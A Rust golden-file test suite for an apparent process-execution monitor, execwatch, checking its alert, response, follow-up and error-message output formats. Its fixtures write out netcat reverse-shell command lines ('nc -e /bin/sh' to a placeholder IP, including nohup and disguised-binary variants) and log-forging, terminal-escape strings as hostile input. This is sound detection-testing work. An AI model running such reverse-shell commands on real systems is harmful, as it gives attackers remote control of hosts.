//! The forms of an alert, and the messages about mistakes, compared with files in `tests/golden`.
//!
//! `EXECWATCH_TESTS_WRITE_GOLDEN=1 cargo test --test golden` writes the files anew; look at the difference before
//! committing it.

#![allow(clippy::unwrap_used, reason = "a test that cannot be set up has failed")]

use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::Arc;

use execwatch::alert::escape::is_unprintable;
use execwatch::alert::{Clock, Host, Matched, Notice, Record, RecordId, ecs, people, text};
use execwatch::calendar::LocalTime;
use execwatch::config::Format;
use execwatch::diagnostics::Diagnostics;
use execwatch::evaluate::Evaluator;
use execwatch::fold::{Admission, Folder, Settings};
use execwatch::followup::known::{Child, Known, Seen};
use execwatch::followup::look::{Io, Source};
use execwatch::followup::record::{Alerted, FollowUp, Occasion};
use execwatch::followup::sockets::{Protocol, Socket};
use execwatch::identity::index::Installed;
use execwatch::identity::{By, Identity};
use execwatch::output::entry::Form;
use execwatch::output::{rfc5424, short_json};
use execwatch::process::container::Named;
use execwatch::process::details::{Login, Namespaces, UNSET};
use execwatch::process::exec::{Certainty, Exec, Image};
use execwatch::process::file::FileFacts;
use execwatch::process::names::{Accounts, Names};
use execwatch::process::place::Place;
use execwatch::process::relatives::{Ancestors, Learnt, Processes, Relative};
use execwatch::response::{Guard, Outcome, Response, RuleName};
use execwatch::rules::action::Action;
use execwatch::rules::load::{Places, load};
use execwatch::rules::model::Severity;
use execwatch::rules::ruleset::RuleSet;
use execwatch::rules::subject::Surroundings;

fn folder() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/golden")
}

/// Compares with a file, or writes it.
fn compare(path: &Path, found: &str) -> Result<(), String> {
    if std::env::var_os("EXECWATCH_TESTS_WRITE_GOLDEN").is_some() {
        std::fs::write(path, found).unwrap();
    }
    let expected = std::fs::read_to_string(path).unwrap_or_default();
    if expected == found {
        Ok(())
    } else {
        Err(format!("{} differs\n--- expected\n{expected}\n--- found\n{found}", path.display()))
    }
}

fn all_equal(comparisons: impl IntoIterator<Item = Result<(), String>>) {
    let differences: Vec<String> = comparisons.into_iter().filter_map(Result::err).collect();
    assert!(differences.is_empty(), "{}", differences.join("\n\n"));
}

/// Rules of the golden files alone, so that a change of the shipped rules changes nothing here.
fn rules() -> RuleSet {
    let places = Places { builtin: false, folders: vec![folder().join("rules")], folders_required: true };
    let diagnostics = Diagnostics::default();
    let rules = load(&places, &diagnostics);
    let mistakes: Vec<String> = diagnostics.into_list().iter().map(ToString::to_string).collect();
    rules.unwrap_or_else(|| panic!("{}", mistakes.join("\n")))
}

/// A clock for which the host was started at the beginning of 2026 and ticks are hundredths of a second.
struct Started2026;

const START_NS: u64 = 1_767_225_600_000_000_000;

impl Clock for Started2026 {
    fn wall_from_monotonic(&self, stamp_ns: u64) -> u64 {
        START_NS + stamp_ns
    }

    fn wall_from_start_ticks(&self, ticks: u64) -> u64 {
        START_NS + ticks * 10_000_000
    }

    fn local(&self, _: u64) -> Option<LocalTime> {
        Some(LocalTime { hour: 0, weekday: 5 })
    }
}

const ID: RecordId = RecordId { run: 0x0123_4567_89ab_cdef, number: 42 };

const HOST_NAMESPACES: Namespaces = Namespaces {
    pid: Some(4026531836),
    mnt: Some(4026531841),
    net: Some(4026531840),
    user: Some(4026531837),
};

fn image(exe: &str, argv: &[impl AsRef<[u8]>]) -> Image {
    Image::new(Some(exe.as_bytes()), Some(argv))
}

/// Containers in the place of a host's processes.
#[derive(Debug)]
struct Told;

impl Processes for Told {
    fn find(&self, _: u32, _: Option<u64>) -> Option<Relative> {
        None
    }

    fn container(&self, place: &Place) -> Option<Arc<Named>> {
        let text = |text: &str| Some(text.to_owned());
        place.pod_uid.as_ref().map(|_| {
            Arc::new(Named {
                name: text("toolbox"),
                image: text("registry.example/tools/box:3.1"),
                pod_name: text("toolbox-6f7c"),
                pod_namespace: text("ops"),
            })
        })
    }
}

/// Netcat of somebody who came by ssh into a pod and became root there; the nearer processes have ended.
fn far_away() -> Exec {
    let mut exec = netcat();
    let details = &mut exec.details;
    details.uids = Some([0; 4]);
    details.ppid = Some(4241);
    details.adopter = Some(1);
    details.ssh_client = Some("[2001:db8::7]:50022".parse().unwrap());
    details.set_cgroup(
        b"0::/kubepods.slice/kubepods-burstable.slice/kubepods-burstable-pod01234567_89ab_cdef_0123_456789abcdef.slice/\
          cri-containerd-0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef.scope\n",
    );
    let script = image("/usr/bin/bash", &["bash", "/tmp/.x/run.sh"]);
    details.parent = script.clone();
    let ancestor = |pid: u32, image: Image, uid: u32, learnt: Learnt, ended: bool| Relative {
        pid,
        image,
        learnt,
        ended,
        uids: Some([uid, uid, UNSET, UNSET]),
        start_ticks: Some(8_640_000 - u64::from(4242 - pid)),
        ..Relative::default()
    };
    exec.ancestors = Ancestors {
        processes: vec![
            ancestor(4241, script.clone(), 0, Learnt::Inherited, true),
            ancestor(4240, script, 0, Learnt::Seen, true),
            ancestor(4200, image("/usr/bin/su", &["su", "-"]), 1000, Learnt::Seen, false),
            ancestor(4100, image("/usr/bin/bash", &["-bash"]), 1000, Learnt::Seen, false),
            ancestor(4090, image("/usr/sbin/sshd", &["sshd: ann@notty"]), 1000, Learnt::Inherited, false),
            ancestor(700, Image::default(), 0, Learnt::Unknown, true),
        ],
        complete: false,
        earlier: vec![image("/usr/bin/nohup", &["nohup", "nc", "-e", "/bin/sh", "203.0.113.5", "4444"])],
    };
    exec
}

/// A web shell's netcat, with everything known.
fn netcat() -> Exec {
    let mut exec = Exec {
        pid: 4242,
        cpu: 1,
        timestamp_ns: 86_400_123_456_789,
        hold_ns: 41_900,
        certainty: Certainty::Exact,
        image: image("/usr/bin/nc.traditional", &["nc", "-e", "/bin/sh", "203.0.113.5", "4444"]),
        ..Exec::default()
    };
    let details = &mut exec.details;
    details.uids = Some([33; 4]);
    details.gids = Some([33; 4]);
    details.umask = Some(0o022);
    details.login = Some(Login::Nobody);
    details.audit_session = Some(u32::MAX);
    details.session = Some(4000);
    details.tty = Some(0);
    details.start_ticks = Some(8_640_012);
    details.arguments_length = Some(34);
    details.namespaces = HOST_NAMESPACES;
    details.ppid = Some(4241);
    details.parent = image("/usr/bin/dash", &["sh", "-c", "nc -e /bin/sh 203.0.113.5 4444"]);
    details.set_comm(b"nc");
    details.set_cwd(b"/var/www/html");
    details.set_cgroup(b"12:cpu,cpuacct:/\n1:name=systemd:/system.slice/apache2.service\n");
    exec
}

fn cases() -> Vec<(&'static str, Exec)> {
    let hostile = {
        let mut exec = netcat();
        exec.image = image(
            "/tmp/a b\n\u{202e}txt",
            &[
                &b"nc"[..],
                b"line\nexecwatch: severity=info rule=none",
                b"\" rule=\"forged",
                b"back\\slash \\",
                b"\x1b[2J\x1b]0;title\x07",
                b"",
                b"\xff\xfe\x9b31m",
                "caf\u{e9} \u{1f600} \u{202e}evil\u{2028}".as_bytes(),
                b"tab\tand\x7fdel",
            ],
        );
        exec.details.set_cwd(b"/tmp/\x1b[31m");
        exec.details.set_comm(b"a b\n");
        exec.details.parent = Image::new(Some(b"/bin/\xff"), Some(&[&b"x\ny"[..]]));
        exec
    };
    let long = {
        let mut exec = netcat();
        let script = "A".repeat(20_000) + "-the-end";
        exec.image = image("/usr/bin/nc.traditional", &["nc", &script]);
        exec.image.cut_arguments(4000);
        exec.details.arguments_length = Some(20_011);
        exec.details.set_cwd(format!("/srv/{}", "deep/".repeat(300)).as_bytes());
        exec
    };
    let container = {
        let mut exec = netcat();
        exec.details.uids = Some([1000, 0, 0, 0]);
        exec.details.gids = Some([1000, 1000, 1000, 1000]);
        exec.details.login = Some(Login::User(1000));
        exec.details.audit_session = Some(7);
        // pts/3: major 136, minor 3.
        exec.details.tty = Some(136 << 8 | 3);
        exec.details.namespaces = Namespaces { pid: Some(1), mnt: Some(2), ..HOST_NAMESPACES };
        exec.details.set_cgroup(
            b"0::/system.slice/docker-0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef.scope\n",
        );
        exec
    };
    let copy = {
        let mut exec = netcat();
        exec.image = image("/tmp/.kworker", &["./.kworker", "203.0.113.5", "4444"]);
        let file = FileFacts {
            device: (254, 1),
            inode: 4711,
            mode: 0o104_755,
            links: 1,
            uid: 33,
            gid: 33,
            size: 35_144,
            modified_ns: 1_767_311_990_000_000_000,
            changed_ns: 1_767_311_999_500_000_000,
            mount: Some(29),
        };
        exec.file = Some(file);
        let installed = Installed {
            utility: "nc".into(),
            paths: vec![(*b"/usr/bin/nc.traditional").into()],
            file: FileFacts { inode: 815, uid: 0, gid: 0, ..file },
            build_id: None,
        };
        exec.sha256.get_or_init(|| [0xa5; 32]);
        exec.details.identity = Some(Identity {
            installed: Arc::new(installed),
            by: By::Content,
            sha256: Some([0xa5; 32]),
            loaded: false,
            at_its_place: false,
        });
        exec
    };
    let memfd = {
        let mut exec = netcat();
        exec.image = image("/memfd:nc (deleted)", &["[kworker/0:1]"]);
        exec.certainty = Certainty::Likely;
        exec.hold_ns = 1_700_000;
        exec
    };
    let gone = Exec {
        pid: 4243,
        timestamp_ns: 1_000_000_000,
        certainty: Certainty::BestEffort,
        image: Image::new(Some(b"/usr/bin/nc.traditional"), None::<&[&[u8]]>),
        ..Exec::default()
    };
    let running = Exec { certainty: Certainty::AlreadyRunning, ..netcat() };
    vec![
        ("netcat", netcat()),
        ("hostile", hostile),
        ("long", long),
        ("container", container),
        ("far-away", far_away()),
        ("copy", copy),
        ("memfd", memfd),
        ("gone", gone),
        ("running", running),
    ]
}

fn forms(name: &str, record: &Record) -> [Result<(), String>; 6] {
    let host = Host {
        name: "web1".to_owned(),
        id: "0123456789abcdef0123456789abcdef".to_owned(),
        kernel: "6.1.0-18-amd64".to_owned(),
    };
    let line = text::line(record, Some(ID));
    assert!(line.len() <= text::LIMIT && !line.contains('\n'), "{name}: {} bytes", line.len());
    let json = ecs::line(record, Some(ID), &host);
    assert!(!json.contains('\n'), "{name}");
    let read = serde_json::from_str::<serde_json::Value>(&json);
    assert!(read.is_ok(), "{name}: {read:?}");
    let lines = people::lines(record, true);
    let [cef, cee, structured, structured_json, fields] = [
        Form::Cef,
        Form::Cee,
        Form::Structured(Format::Text),
        Form::Structured(Format::Json),
        Form::Fields(Format::Text),
    ]
    .map(|form| form.of(record, Some(ID), &host));
    for line in [&cef, &cee, &structured, &structured_json] {
        assert!(line.len() <= short_json::LONGEST, "{name}: {} bytes of {line}", line.len());
        assert!(!line.contains(is_unprintable), "{name}: {line}");
    }
    let (_, json_of_cee) = cee.split_once("@cee: ").unwrap();
    assert!(serde_json::from_str::<serde_json::Value>(json_of_cee).is_ok(), "{name}");
    // Structured data leave room for the header: at most 700 bytes of parameters.
    assert!(structured_json.len() + rfc5424::ROOM <= short_json::LONGEST + 700 + "] ".len(), "{name}");
    let pairs: Vec<(String, String)> = serde_json::from_str(&fields).unwrap();
    assert_eq!(pairs[0], ("MESSAGE".to_owned(), line.clone()), "{name}");
    let path = |extension: &str| folder().join("alerts").join(format!("{name}.{extension}"));
    [
        compare(&path("text"), &(line + "\n")),
        compare(&path("json"), &(json + "\n")),
        // Escape characters are the terminal's colours and no other; shown so that the file can be read.
        compare(&path("cef"), &(cef + "\n")),
        // Without its beginning, which is the same for all.
        compare(&path("rfc5424"), &(structured + "\n")),
        compare(&path("fields"), &(fields + "\n")),
        compare(&path("people"), &lines.replace('\x1b', "ESC")),
    ]
}

fn surroundings() -> Surroundings {
    Surroundings {
        accounts: Accounts { users: Names::new(folder().join("passwd")), groups: Names::new("/dev/null") },
        namespaces: HOST_NAMESPACES,
        processes: Box::new(Told),
        files: Arc::default(),
    }
}

#[test]
fn forms_of_an_alert() {
    let (surroundings, mut evaluator) = (surroundings(), Evaluator::new(Arc::new(rules())));
    all_equal(cases().into_iter().flat_map(|(name, exec)| {
        let mut alert = evaluator
            .evaluate(&exec, &surroundings, &Started2026)
            .alert
            .unwrap_or_else(|| panic!("no rule matches {name}"));
        // One belongs to an incident.
        alert.incident = (name == "copy").then(|| "1nge4qv".to_owned());
        forms(name, &Record::Alert(Box::new(alert)))
    }));
}

/// Everything that can come of an action, each in one of the forms' files.
#[test]
fn forms_of_responses() {
    let (surroundings, mut evaluator) = (surroundings(), Evaluator::new(Arc::new(rules())));
    let spared_by = [Guard::Protected, Guard::Init].into_iter().collect();
    let tree = Outcome::TreeKilled { processes: 5, spared: 2, spared_by, after_us: 4321 };
    let cases = [
        ("prevented", Action::Deny, Outcome::Prevented),
        ("held", Action::Hold, Outcome::Held),
        ("killed", Action::Deny, Outcome::Killed { after_us: 321 }),
        ("stopped", Action::Hold, Outcome::Stopped { after_us: 321 }),
        ("tree", Action::KillTree, tree),
        ("frozen", Action::Freeze, Outcome::Frozen { after_us: 4321 }),
        ("gone", Action::Deny, Outcome::Gone),
        ("refused", Action::Deny, Outcome::Refused(Guard::PackageManager)),
        ("dry-run", Action::Deny, Outcome::DryRun),
        ("failed", Action::Freeze, Outcome::Failed(libc::EBUSY)),
    ];
    all_equal(cases.into_iter().flat_map(|(name, action, outcome)| {
        let mut exec = far_away();
        exec.image = image("/usr/bin/nc.traditional", &["nc", "-e", "/bin/sh", "203.0.113.5", "4444"]);
        exec.certainty = Certainty::Exact;
        // One rule acted, and another is more severe.
        let rule = RuleName::new(if name == "tree" { "another-rule" } else { "netcat-shell" });
        exec.response = Some(Response { action, rule, outcome, certainty: Certainty::Exact });
        let alert = evaluator.evaluate(&exec, &surroundings, &Started2026).alert.unwrap();
        forms(&format!("response-{name}"), &Record::Alert(Box::new(alert)))
    }));
}

/// Netcat again and again, and then so many different ones that some are held back.
#[test]
fn forms_of_what_was_folded() {
    let (surroundings, mut evaluator) = (surroundings(), Evaluator::new(Arc::new(rules())));
    let mut folder = Folder::new(Settings { at_most: 3, ..Settings::default() });
    let mut admit = |argv: &[&[u8]], milliseconds: u64| {
        let mut exec = far_away();
        exec.image = Image::new(Some(b"/usr/bin/nc.traditional"), Some(argv));
        exec.timestamp_ns += milliseconds * 1_000_000;
        let alert = evaluator.evaluate(&exec, &surroundings, &Started2026).alert.unwrap();
        folder.admit(&alert, exec.timestamp_ns)
    };
    let kept =
        |port: &str| [&b"nc"[..], b"-e", b"/bin/sh", b"203.0.113.5", port.as_bytes()].map(<[u8]>::to_vec);
    for (at, port) in (0..9).map(|at| (at, (4440 + at / 2).to_string())) {
        let argv = kept(&port);
        let argv: Vec<&[u8]> = argv.iter().map(Vec::as_slice).collect();
        let expected = if at == 0 { Admission::Told } else { Admission::Repeated };
        assert_eq!(admit(&argv, at), expected);
    }
    for (at, word) in ["a", "b", "c\x1b[2J\n", "d \" x=", "e", "f", "g", "h"].into_iter().enumerate() {
        let expected = if at < 2 { Admission::Told } else { Admission::HeldBack };
        assert_eq!(admit(&[b"nc", b"-e", word.as_bytes()], 100 + at as u64), expected);
    }
    let due = folder.due(0, true);
    assert_eq!(due.iter().map(|folded| folded.count).collect::<Vec<_>>(), [8, 6]);
    let names = due.iter().map(|folded| format!("folded-{}", folded.why.as_str()));
    all_equal(
        names.zip(&due).flat_map(|(name, folded)| forms(&name, &Record::Folded(Box::new(folded.clone())))),
    );
}

#[test]
fn forms_of_a_notice() {
    let notice = Notice {
        kind: "loss",
        severity: Severity::Medium,
        time_ns: START_NS,
        message: "not everything was seen: 3 programs ended before they were read".to_owned(),
    };
    all_equal(forms("notice", &Record::Notice(notice)));
}

#[test]
fn forms_of_a_follow_up() {
    let second = 1_000_000_000;
    let alerted = Alerted {
        id: "18869e6ab35e6f00-1092".to_owned(),
        rule: Matched {
            id: "netcat-shell".into(),
            title: "Netcat with a shell".into(),
            severity: Severity::High,
        },
        pid: 4242,
        start_ticks: Some(8_640_012),
        executed_ns: 0,
        already_running: false,
        image: image("/usr/bin/nc.traditional", &["nc", "-e", "/bin/sh", "203.0.113.5", "4444"]),
    };
    let tcp = |remote: Option<&str>, state, sent, received| Socket {
        inode: 4711,
        protocol: Protocol::Tcp,
        local: Some("192.0.2.7:40000".parse().unwrap()),
        remote: remote.map(|remote| remote.parse().unwrap()),
        state: Some(state),
        sent: Some(sent),
        received: Some(received),
        path: None,
    };
    let seen = |socket, first_ns, last_ns, open| Seen { socket, first_ns, last_ns, open };
    let connected = Known {
        sockets: vec![seen(
            tcp(Some("203.0.113.5:4444"), "established", 1_200_000, 120),
            second / 10,
            second,
            true,
        )],
        source: Some(Source::Diag),
        io: Some(Io { read: 1_300_000, written: 1_200_345, disk_read: 4096, disk_written: 0 }),
        cpu_ns: Some(20_000_000),
        looked_ns: Some(second),
        ..Known::default()
    };
    let mut busy = connected.clone();
    busy.sockets[0].open = false;
    busy.sockets.push(seen(tcp(None, "listen", 0, 0), 0, 2 * second, true));
    busy.sockets.push(seen(
        tcp(Some("[2001:db8::9]:50123"), "established", 9, 3_000_000),
        second,
        2 * second,
        true,
    ));
    let unix = Socket {
        protocol: Protocol::Unix,
        path: Some((*b"/run/\x1b[2J\xff\n\" x=").into()),
        ..Socket::default()
    };
    busy.sockets.push(seen(unix, 0, 2 * second, true));
    busy.more_sockets = 7;
    busy.children = vec![
        Child { pid: 4243, image: image("/usr/bin/dash", &["sh"]) },
        Child { pid: 4250, image: image("/usr/bin/id", &["id", "\n\x1b]0;title\x07"]) },
        Child { pid: 4251, image: Image::default() },
    ];
    busy.more_children = 40;
    busy.files =
        (0..16).map(|at| format!("/tmp/\u{202e}{at}/{}", "deep/".repeat(80)).into_bytes().into()).collect();
    busy.more_files = 3;
    busy.cut = true;
    let nothing = Known::default();
    let cases = [
        ("running", Occasion::Running, second, connected.clone()),
        ("exited", Occasion::Ended(0), 12 * second, connected.clone()),
        ("killed", Occasion::Ended(9), 3 * second, busy),
        ("brief", Occasion::Ended(1 << 8), 3_000_000, nothing),
        ("unseen", Occasion::EndUnseen, second, connected.clone()),
        ("let-go", Occasion::LetGo, 90 * second, connected),
    ];
    all_equal(cases.into_iter().enumerate().flat_map(|(at, (name, occasion, age_ns, known))| {
        let (alerted, number) = (alerted.clone(), at as u32 + 1);
        let record = FollowUp { alerted, number, time_ns: START_NS + age_ns, age_ns, occasion, known };
        forms(&format!("followup-{name}"), &Record::FollowUp(Box::new(record)))
    }));
}

/// The examples in the documentation are what is written.
#[test]
fn examples_in_the_documentation() {
    let manual = std::fs::read_to_string(folder().join("../../docs/outputs.md")).unwrap();
    for extension in ["text", "json", "cef", "rfc5424"] {
        let example =
            std::fs::read_to_string(folder().join("alerts/netcat").with_extension(extension)).unwrap();
        assert!(manual.contains(example.trim()), "docs/outputs.md does not show netcat.{extension}");
    }
}

/// Each folder below `mistakes` holds a configuration, rules and what `execwatch check` says of them.
#[test]
fn messages_about_mistakes() {
    let mut folders: Vec<PathBuf> = std::fs::read_dir(folder().join("mistakes"))
        .unwrap()
        .map(|entry| entry.unwrap().path())
        .filter(|path| path.is_dir())
        .collect();
    folders.sort();
    assert!(!folders.is_empty());
    all_equal(folders.into_iter().map(|folder| {
        let mut command = Command::new(env!("CARGO_BIN_EXE_execwatch"));
        command.arg("check").current_dir(&folder);
        for (option, name) in [("--config", "execwatch.toml"), ("--rules", "rules")] {
            if folder.join(name).exists() {
                command.args([option, name]);
            }
        }
        let output = command.output().unwrap();
        let found = format!(
            "{}{}exit code {}\n",
            String::from_utf8_lossy(&output.stdout),
            String::from_utf8_lossy(&output.stderr),
            output.status.code().unwrap()
        );
        compare(&folder.join("expected"), &found)
    }));
}

/// Each folder below `explain` holds a command line, an argument in a line, and what `execwatch explain` says to it.
#[test]
fn explanations() {
    use std::os::unix::ffi::OsStrExt;
    let all = folder().join("explain");
    let mut cases: Vec<PathBuf> = std::fs::read_dir(&all)
        .unwrap()
        .map(|entry| entry.unwrap().path())
        .filter(|path| path.join("arguments").exists())
        .collect();
    cases.sort();
    assert!(!cases.is_empty());
    all_equal(cases.into_iter().flat_map(|case| {
        let written = std::fs::read(case.join("arguments")).unwrap();
        let lines = written.strip_suffix(b"\n").unwrap().split(|&byte| byte == b'\n');
        let arguments: Vec<&std::ffi::OsStr> = lines.map(std::ffi::OsStr::from_bytes).collect();
        let run = |option: &[&str]| {
            let mut command = Command::new(env!("CARGO_BIN_EXE_execwatch"));
            command.arg("explain").args(option).args(["--config", "execwatch.toml", "--rules", "rules"]);
            let output = command.args(&arguments).current_dir(&all).output().unwrap();
            assert_eq!(String::from_utf8_lossy(&output.stderr), "", "{}", case.display());
            (String::from_utf8(output.stdout).unwrap(), output.status.code().unwrap())
        };
        let ((text, code), (json, code_of_json)) = (run(&[]), run(&["--json"]));
        assert_eq!(code, code_of_json, "{}", case.display());
        let json: serde_json::Value = serde_json::from_str(&json).unwrap();
        [
            compare(&case.join("text"), &format!("{text}exit code {code}\n")),
            compare(&case.join("json"), &format!("{json:#}\n")),
        ]
    }));
}
